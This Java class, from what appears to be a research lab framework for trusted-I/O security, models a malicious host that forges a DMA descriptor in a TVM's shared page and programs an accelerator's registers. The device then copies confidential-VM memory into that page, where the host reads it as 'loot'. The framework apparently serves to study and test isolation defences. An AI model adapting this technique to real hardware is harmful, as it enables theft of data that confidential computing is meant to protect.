package io.teeio.lab.attack;

import io.teeio.lab.experiment.Experiment;
import io.teeio.platform.memory.AccessFault;
import io.teeio.platform.memory.DomainMemory;
import io.teeio.platform.memory.GuestAddress;
import io.teeio.platform.memory.HostAddress;
import io.teeio.platform.memory.SupervisorDomain;
import io.teeio.platform.sbi.HostCallFunction;
import io.teeio.platform.sbi.SbiCall;
import io.teeio.wire.Bytes;
import io.teeio.wire.WireWriter;

/**
 * What a host does to make an accelerator copy a TVM's memory to where the host can read it: a page
 * that the TVM shares with it, as every TVM shares some. In the page are a ring with one
 * descriptor, its completion record, and the loot.
 */
final class HijackedAccelerator {
  private static final int CONTROL = 0x08;
  private static final int RING_BASE = 0x10;
  private static final int RING_SIZE = 0x18;
  private static final int TAIL = 0x20;
  private static final int COMPLETION = 0x400;
  private static final int LOOT = 0x800;

  /** A way to registers that swallows what is refused, as posted writes do. */
  @FunctionalInterface
  interface Registers {
    /** Writes {@code data}, 4 or 8 bytes. */
    void write(HostAddress register, Bytes data);
  }

  private final HostAddress bar;
  private final DomainMemory memory;
  private final GuestAddress shared;
  private final HostAddress page;

  /**
   * Aims at the accelerator at {@code bar}.
   *
   * @param shared the guest address of a page that the TVM of {@code experiment} shares by now
   */
  HijackedAccelerator(Experiment experiment, HostAddress bar, GuestAddress shared) {
    this.bar = bar;
    this.memory = experiment.machine().memory(SupervisorDomain.HOST);
    this.shared = shared;
    this.page = sharedPage(experiment, shared);
  }

  /** Where the host keeps the page that its TVM shares at {@code shared}. */
  static HostAddress sharedPage(Experiment experiment, GuestAddress shared) {
    SbiCall where = SbiCall.of(HostCallFunction.SHARED_DMA_ADDRESS, shared.value());
    return new HostAddress(experiment.vmm().tenant().hostCall(where).value());
  }

  /** Writes the descriptor: copy {@code length} bytes from {@code source}, at most 2 KiB. */
  void describe(GuestAddress source, int length) throws AccessFault {
    memory.write(page, Bytes.zeros(Experiment.PAGE));
    memory.write(
        page,
        ForgedDescriptor.copy(
            0, source.value(), shared.plus(LOOT).value(), length, shared.plus(COMPLETION).value()));
  }

  /** Gives the accelerator the ring, as its driver would. */
  void program(Registers registers) {
    registers.write(bar.plus(CONTROL), word(0));
    registers.write(bar.plus(RING_BASE), new WireWriter(8).u64(shared.value()).toBytes());
    registers.write(bar.plus(RING_SIZE), word(2));
    registers.write(bar.plus(CONTROL), word(1));
    registers.write(bar.plus(TAIL), word(1));
  }

  private static Bytes word(int value) {
    return new WireWriter(4).u32(value).toBytes();
  }

  /** What the accelerator left in the page. */
  Bytes loot() throws AccessFault {
    return memory.read(page.plus(LOOT), Experiment.PAGE - LOOT);
  }
}
